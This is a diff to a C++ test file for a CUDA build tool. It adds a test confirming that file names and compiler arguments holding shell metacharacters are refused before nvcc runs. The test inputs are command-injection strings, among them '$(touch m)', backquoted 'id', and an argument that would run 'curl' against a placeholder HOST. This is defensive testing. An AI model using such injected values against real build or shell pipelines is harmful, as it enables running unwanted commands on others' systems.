@@ -1,9 +1,14 @@
 // SPDX-License-Identifier: Apache-2.0
-// Reading nvcc's dependency files.
+// Reading nvcc's dependency files, and what nvcc is never given.
 #include "cuda/nvcc_unit.hpp"
+
+#include <fstream>
 
 #include <catch2/catch.hpp>
 
+#include "support/temp_dir.hpp"
+
+using namespace kforecast;
 using namespace kforecast::cuda;
 using Files = std::vector<std::string>;
 
@@ -21,4 +26,38 @@ TEST_CASE("nvcc depfile: text without a rule gives no files, and nothing is read
   CHECK(parse_depfile("t: \\").empty());
   CHECK(parse_depfile("t: a\\") == Files{"a"});
   CHECK(parse_depfile(std::string_view("t: a\0b", 6)) == Files{std::string("a\0b", 3)});
+}
+
+// nvcc runs its steps through `sh -c`: the compiler refuses, before anything runs, any argument or
+// file name a shell would act on, whichever caller built the request. The "nvcc" here is a file
+// that would leave a marker if it ran.
+TEST_CASE("nvcc unit: a file name or an argument a shell would act on is refused before nvcc runs") {
+  kforecast::testing::TempDir tree;
+  const auto marker = tree.path() / "ran";
+  const auto fake_nvcc = tree.path() / "nvcc";
+  {
+    std::ofstream script(fake_nvcc);
+    script << "#!/bin/sh\ntouch " << marker.string() << "\n";
+  }
+  std::filesystem::permissions(fake_nvcc, std::filesystem::perms::owner_all);
+  NvccSettings settings;
+  settings.nvcc = fake_nvcc.string();
+  settings.program = KF_BINARY;
+  const NvccUnitCompiler compiler(settings);
+  const auto refused = [&](std::string unit, std::vector<std::string> arguments) {
+    auto built = compiler.compile({tree.path(), std::move(unit), std::move(arguments), "sm_90"});
+    REQUIRE_FALSE(built);
+    CHECK(built.error().exit_code == ExitCode::could_not_run);
+    return built.error().message;
+  };
+  CHECK(refused("a$(touch m).cu", {}).find("its file name 'a$(touch m).cu' holds '$'") != std::string::npos);
+  CHECK(refused("a`id`.cu", {}).find("holds a backquote") != std::string::npos);
+  CHECK(refused("a\"b.cu", {}).find("holds a double quote") != std::string::npos);
+  CHECK(refused("k.cu", {"-DX=1$(curl -s http://HOST/x)"})
+            .find("the argument '-DX=1$(curl -s http://HOST/x)' holds '$'") != std::string::npos);
+  CHECK(refused("k.cu", {"-Iinc`id`"}).find("holds a backquote") != std::string::npos);
+  CHECK(refused("k.cu", {"-Iin\"c"}).find("holds a double quote") != std::string::npos);
+  CHECK(refused("k.cu", {"-DX=a\\b"}).find("holds a backslash") != std::string::npos);
+  CHECK(refused("k.cu", {"-DX=1\ntouch m"}).find("holds a newline") != std::string::npos);
+  CHECK_FALSE(std::filesystem::exists(marker));
 }
